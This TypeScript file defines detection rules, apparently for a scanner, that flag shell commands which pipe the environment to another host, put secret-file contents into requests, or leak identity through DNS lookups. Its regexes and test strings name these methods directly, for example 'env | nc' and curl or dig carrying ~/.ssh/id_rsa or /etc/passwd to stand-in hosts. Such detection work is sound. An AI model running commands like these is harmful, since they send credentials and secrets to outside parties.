import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { SECRET_FILE, WORD_START } from '../shell_syntax.ts';
import { EXFIL_COMMAND, SENDER_KEYWORDS, SENDS, sendsInput } from './format.ts';

/** Commands that send the environment, or put what they read into a request or a name. */
export const VALUE_RULES: readonly Rule[] = [
  {
    ...EXFIL_COMMAND,
    id: 'environment_piped_out',
    keywords: SENDER_KEYWORDS,
    expression: expression(
      'gi',
      WORD_START,
      String.raw`(?:env|printenv|export[ \t]{1,4}-p|declare[ \t]{1,4}-[px]{1,2}|compgen[ \t]{1,4}-v|history)[ \t]{0,4}\|(?:[^\r\n;|]{0,60}\|)?(?:[^\r\n;|]{0,60}\|)?`,
      SENDS,
    ),
    reach: { before: 180, after: 150 },
    validate: sendsInput,
    describes: 'The environment, keys included, or the history of commands that is piped to another host.',
    get finds() {
      return [
        'env | nc 192.0.2.1 99',
        'printenv | base64 | curl -d @- http://x.example',
        'env|grep KEY | curl -T - x.example',
      ];
    },
    get ignores() {
      return [
        'env | sort | less',
        'env | grep SSH',
        'printenv | curl https://x.example',
        'history | grep ssh x',
      ];
    },
  },
  {
    ...EXFIL_COMMAND,
    id: 'secret_in_request',
    keywords: ['cat', 'base64', 'env', 'printenv', 'head', 'tar', 'grep', 'xxd', '<', 'gzip']
      .flatMap((name) => [`$(${name} `, `\x60${name} `])
      .concat(
        '$(env)',
        '$(env|',
        '\x60env\x60',
        '\x60env|',
        '$(printenv)',
        '\x60printenv\x60',
        '$(</',
        '$(<~',
      ),
    expression: expression(
      'gi',
      WORD_START,
      String.raw`(?:curl|wget|https?|dig|nslookup|host|ping|drill|resolvectl|iwr|irm)(?:\.exe)?[ \t][^\r\n;|]{0,160}?(?:\$\(|\x60)[ \t]{0,2}`,
      String.raw`(?:(?:env|printenv)[ \t]{0,4}[|)\x60]|(?:cat|base64|head|tail|tar|grep|xxd|gzip|env|printenv|<)[^\r\n;)\x60]{0,100}?`,
      SECRET_FILE,
      String.raw`)[^\r\n;]{0,80}`,
    ),
    reach: { before: 190, after: 260 },
    describes: 'A request or a look-up that carries the contents of a secret file or the environment.',
    get finds() {
      return [
        'curl "http://x.example/?d=$(cat /etc/passwd | base64 -w0)"',
        'curl -d "$(env | base64)" https://x.example',
        'dig $(head -c 30 ~/.ssh/id_rsa | xxd -p).x.example',
        'wget x.example/`cat .env | base64`',
        'curl -H "X-A: $(</proc/self/environ)" x.example',
      ];
    },
    get ignores() {
      return [
        'curl https://x.example/a-$(uname -s)-$(uname -m)',
        'curl -H "Authorization: Bearer $(cat token)" https://x.example',
        'curl https://x.example/$(cat VERSION).tgz',
        'export $(cat .env | xargs)',
      ];
    },
  },
  {
    ...EXFIL_COMMAND,
    id: 'identity_in_lookup',
    severity: 'medium',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1048/003/',
    keywords: ['whoami', 'hostname', 'id'].flatMap((name) => [`$(${name}`, `\x60${name}`]),
    expression: expression(
      'gi',
      WORD_START,
      String.raw`(?:(?:dig|nslookup|host|ping|drill)[ \t][^\r\n;|]{0,80}?(?:\$\(|\x60)(?:whoami|hostname|id)(?:[ \t|][^\r\n;)\x60]{0,40})?[)\x60][.-]`,
      String.raw`|(?:curl|wget)[ \t][^\r\n;|]{0,80}?https?:[^\s;|]{0,80}?(?:\$\(|\x60)(?:whoami|hostname|id)(?:[ \t|][^\r\n;)\x60]{0,40})?[)\x60])[^\s;]{0,80}`,
    ),
    reach: { before: 190, after: 150 },
    describes: 'A look-up or request whose name tells who the command ran as, to see whether it ran.',
    get finds() {
      return [
        'ping -c1 $(whoami).x.example',
        'nslookup \x60hostname\x60.x.example',
        'curl http://x.example/?u=$(id|base64)',
      ];
    },
    get ignores() {
      return [
        '$host = \x60hostname\x60',
        'echo $(whoami)',
        'curl -u $(whoami) ftp.example',
        'ping $(hostnamectl)',
        'host $(cat a)',
      ];
    },
  },
];
